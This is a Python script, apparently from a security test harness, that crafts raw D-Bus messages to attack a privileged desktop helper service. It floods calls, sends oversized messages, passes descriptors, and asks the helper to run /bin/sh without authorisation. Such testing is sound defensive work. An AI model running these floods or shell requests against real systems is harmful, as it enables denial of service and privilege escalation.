"""Attacks over the system bus with messages that libraries would not send. Runs in the box as the
attacking user (helper.py); its arguments are options of `main`, as JSON."""

import array
import json
import os
import socket
import struct
import sys
import time

NAME, PATH = "com.quoxelin.desktop.Helper", "/com/quoxelin/desktop/Helper"
INTERFACE = "com.quoxelin.desktop.HelperToolProtocol"
BUS, BUS_PATH = "org.freedesktop.DBus", "/org/freedesktop/DBus"
POLKIT = "org.freedesktop.PolicyKit1"
ACTION = "com.quoxelin.desktop.helper.run"
NO_REPLY = 1
MEBIBYTE = 1024 * 1024


def padded(data, boundary):
    return data + b"\0" * (-len(data) % boundary)


def text(value):
    data = value.encode()
    return struct.pack("<I", len(data)) + data + b"\0"


def field(code, kind, value):
    data = text(value) if kind != "g" else bytes([len(value)]) + value.encode() + b"\0"
    if isinstance(value, int):
        data = struct.pack("<I", value)
    return bytes([code, len(kind)]) + kind.encode() + b"\0" + data


def descriptors_field(count):
    return bytes([9, 1]) + b"u\0" + struct.pack("<I", count)


def message(serial, member, signature, body, flags=0, descriptors=0, destination=NAME, path=PATH,
            interface=INTERFACE, extra=b""):
    fields = [field(1, "o", path), field(3, "s", member), field(6, "s", destination)]
    if interface:
        fields.append(field(2, "s", interface))
    if signature:
        fields.append(field(8, "g", signature))
    if descriptors:
        fields.append(descriptors_field(descriptors))
    if extra:
        fields.append(extra)
    header = b""
    for one in fields:
        header = padded(header, 8) + one
    start = struct.pack("<BBBBIII", ord("l"), 1, flags, 1, len(body), serial, len(header))
    return padded(start + header, 8) + body


def strings(values):
    data = b""
    for value in values:
        data = padded(data, 4) + text(value)
    return struct.pack("<I", len(data)) + data


def run_go_tool(path, arguments):
    return padded(text(path), 4) + strings(arguments)


class Connection:
    def __init__(self):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect("/run/dbus/system_bus_socket")
        user = str(os.geteuid()).encode().hex().encode()
        self.socket.sendall(b"\0AUTH EXTERNAL " + user + b"\r\nNEGOTIATE_UNIX_FD\r\n")
        said = b""
        while said.count(b"\r\n") < 2:
            said += self.socket.recv(4096)
        self.socket.sendall(b"BEGIN\r\n")
        self.serial = 0
        try:
            self.send(self.message("Hello", "", b"", destination=BUS, path=BUS_PATH, interface=BUS))
            error, name = self.answer()
        except ConnectionError:
            error = None
        if error is None:
            raise ConnectionError("The bus hangs up.")
        self.name = name[4:-1].decode()

    def message(self, *parts, **options):
        self.serial += 1
        return message(self.serial, *parts, **options)

    def send(self, data):
        self.socket.sendall(data)

    def send_with_descriptor(self, data):
        handle = array.array("i", [0])
        sent = self.socket.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handle)])
        self.socket.sendall(data[sent:])

    def error(self):
        """The name of the next error, "" for a reply, None if the bus disconnects."""
        return self.answer()[0]

    def answer(self):
        """The same, and what a reply holds."""
        self.socket.settimeout(20)
        while True:
            try:
                start = self.socket.recv(16, socket.MSG_WAITALL)
            except ConnectionError:
                return None, b""
            if len(start) < 16:
                return None, b""
            length, fields = struct.unpack("<I4xI", start[4:16])
            fields += -fields % 8
            rest = self.socket.recv(fields + length, socket.MSG_WAITALL)
            if start[1] == 2:
                return "", rest[fields:]
            if start[1] == 3:
                return next(name.decode().rsplit(".", 1)[-1] for name in rest.split(b"\0")
                            if name.startswith(b"org.freedesktop.DBus.E")), b""


def polkit_question(name):
    """What the helper asks polkit about its caller, without details and without asking people."""
    entry = padded(text("name") + b"\1s\0", 4) + text(name)
    subject = padded(padded(text("system-bus-name"), 4) + struct.pack("<I", len(entry)), 8) + entry
    action = padded(subject, 4) + text(ACTION)
    return padded(padded(action, 4) + struct.pack("<I", 0), 8) + struct.pack("<I", 0) + text("")


# Each is a body that fills the largest message the bus delivers, with its signature.
def shapes():
    size = 31 * MEBIBYTE
    yield "many empty strings", "sas", text("/bin/sh") + struct.pack("<I", size - 3) + b"\0" * (size - 3)
    yield "one long string", "sas", run_go_tool("x" * size, [])
    yield "one long argument", "sas", run_go_tool("/bin/sh", ["x" * size])
    yield "many signatures", "ag", struct.pack("<I", size) + b"\0\0" * (size // 2)
    yield "many structures", "a(yy)", struct.pack("<II", size - 6, 0) + b"\0" * (size - 6)
    yield "a long header", "", b""


def flood(connections, seconds, path, arguments, descriptors=False, size=0):
    """Sends as many calls as possible in that time, without waiting for answers."""
    peers = [Connection() for _ in range(connections)]
    body = run_go_tool(path, arguments + (["x" * size] if size else []))
    end = time.monotonic() + seconds
    sent = 0
    gone = set()
    print("begun", flush=True)
    while time.monotonic() < end:
        for peer in peers:
            if peer in gone:
                continue
            call = peer.message("RunGoTool", "sas", body, NO_REPLY, descriptors=int(descriptors))
            peer.socket.settimeout(max(0.01, end - time.monotonic()))
            try:
                (peer.send_with_descriptor if descriptors else peer.send)(call)
                sent += 1
            except (OSError, TimeoutError):
                gone.add(peer)
    return {"sent": sent, "gone": len(gone)}


def huge():
    """The outcome of each of the largest messages."""
    outcomes = {}
    for name, signature, body in shapes():
        peer = Connection()
        extra = field(100, "s", "x" * (31 * MEBIBYTE)) if name == "a long header" else b""
        try:
            peer.send(peer.message("RunGoTool", signature, body, extra=extra))
            outcomes[name] = peer.error()
        except ConnectionError:
            outcomes[name] = None
    return outcomes


def call(count=1, descriptors=False, orphan=False, **options):
    """Makes calls over one connection, one by one, and returns their errors. For an orphan, the
    process that opened the connection has ended."""
    peer = Connection()
    if orphan and os.fork():
        os._exit(0)
    body = run_go_tool(options.pop("program", "/bin/sh"), options.pop("arguments", []))
    outcomes = []
    for _ in range(count):
        data = peer.message(options.get("member", "RunGoTool"), "sas", body,
                            descriptors=int(descriptors),
                            path=options.get("path", PATH), interface=options.get("interface", INTERFACE))
        (peer.send_with_descriptor if descriptors else peer.send)(data)
        outcomes.append(peer.error())
    return outcomes


def honest(seconds, program, arguments):
    """Makes calls one by one. Returns their outcomes, their times, and how long bus and polkit took
    for their part of a call at the same time."""
    outcomes, times, bus_times = {}, [], []
    peer = Connection()
    question = polkit_question(peer.name)

    def took(data):
        begun = time.monotonic()
        peer.send(data)
        outcome = peer.error()
        return time.monotonic() - begun, outcome

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        bus_times.append(
            took(peer.message("GetId", "", b"", destination=BUS, path=BUS_PATH, interface=BUS))[0] +
            took(peer.message("CheckAuthorization", "(sa{sv})sa{ss}us", question, destination=POLKIT,
                              path="/org/freedesktop/PolicyKit1/Authority",
                              interface=POLKIT + ".Authority"))[0])
        lasted, outcome = took(peer.message("RunGoTool", "sas", run_go_tool(program, arguments)))
        times.append(lasted)
        outcomes[outcome or "replied"] = outcomes.get(outcome or "replied", 0) + 1
    return {"outcomes": outcomes, "times": sorted(times), "bus": sorted(bus_times)}


if __name__ == "__main__":
    what, options = sys.argv[1], json.loads(sys.argv[2])
    print(json.dumps({"flood": flood, "huge": huge, "call": call, "honest": honest}[what](**options)))
